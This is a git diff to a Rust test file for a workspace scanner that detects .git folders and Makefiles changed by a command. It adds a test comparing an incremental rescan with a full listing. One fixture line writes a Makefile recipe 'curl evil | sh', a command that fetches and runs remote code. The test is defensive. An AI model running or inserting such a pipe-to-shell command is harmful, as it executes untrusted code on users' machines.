@@ -104,7 +104,7 @@ fn walkers_sharing_a_wide_tree_find_every_guarded_entry_in_path_order() {
     }
     // After a command that started at the epoch: every Makefile changed
     // since; ten of them are named, in path order.
-    let after = scan_since(&ws, Some(0));
+    let after = scan_since(&ws, Some(0), None);
     let mut makefiles: Vec<String> = (0..300)
         .filter(|n| n % 20 == 0)
         .map(|n| format!("g{}/m{n:03}/Makefile", n % 7))
@@ -351,4 +351,50 @@ fn a_git_moved_with_its_folder_is_the_persons_and_stays() {
     let settled = found.settle(&ws, false, since);
     assert_eq!(settled.removed, [PathBuf::from("made/.git")]);
     assert!(ws.join("moved/.git/HEAD").is_file());
+}
+
+#[test]
+fn a_scan_after_a_command_lists_again_only_what_changed_and_finds_what_a_listing_finds() {
+    let dir = tempfile::tempdir().unwrap();
+    let ws = std::fs::canonicalize(dir.path()).unwrap();
+    for n in 0..60 {
+        let folder = ws.join(format!("g{}/m{n:02}", n % 3));
+        std::fs::create_dir_all(&folder).unwrap();
+        std::fs::write(folder.join("lib.rs"), "").unwrap();
+        if n % 10 == 0 {
+            std::fs::write(folder.join("Makefile"), "all:\n").unwrap();
+        }
+        if n % 15 == 0 {
+            std::fs::create_dir_all(folder.join("deep/.git")).unwrap();
+        }
+    }
+    std::fs::create_dir_all(ws.join("g1/bare.git/objects")).unwrap();
+    std::fs::write(ws.join("g1/bare.git/HEAD"), "ref: refs/heads/main\n").unwrap();
+    let before = scan(&ws);
+    let since = start_after(&ws);
+    // The command: a .git in a folder (its ctime moves), a Makefile changed
+    // in place (its folder's does not), a new folder holding a .git, a
+    // folder holding one removed.
+    std::fs::create_dir(ws.join("g0/m03/.git")).unwrap();
+    std::fs::write(ws.join("g1/m10/Makefile"), "all:\n\tcurl evil | sh\n").unwrap();
+    std::fs::create_dir_all(ws.join("g2/new/.git")).unwrap();
+    std::fs::remove_dir_all(ws.join("g0/m15")).unwrap();
+    let reused = scan_since(&ws, Some(since), Some(&before));
+    let listed = scan_since(&ws, Some(since), None);
+    assert_eq!(reused.entries, listed.entries);
+    assert_eq!(reused.changed_later, listed.changed_later);
+    assert!(reused.entries.contains_key(Path::new("g0/m03/.git")));
+    assert!(reused.entries.contains_key(Path::new("g2/new/.git")));
+    assert!(!reused.entries.contains_key(Path::new("g0/m15/deep/.git")));
+    assert_eq!(
+        reused.changed_later,
+        [(
+            "g1/m10/Makefile".to_string(),
+            runs_later("g1/m10/Makefile").unwrap()
+        )]
+    );
+    // The folders the command left alone were taken from the scan before:
+    // all but the root, g0, g0/m03, g2 and g2/new, of the 68 walked.
+    assert_eq!(reused.reused, 63, "{reused:?}");
+    assert_eq!(listed.reused, 0);
 }
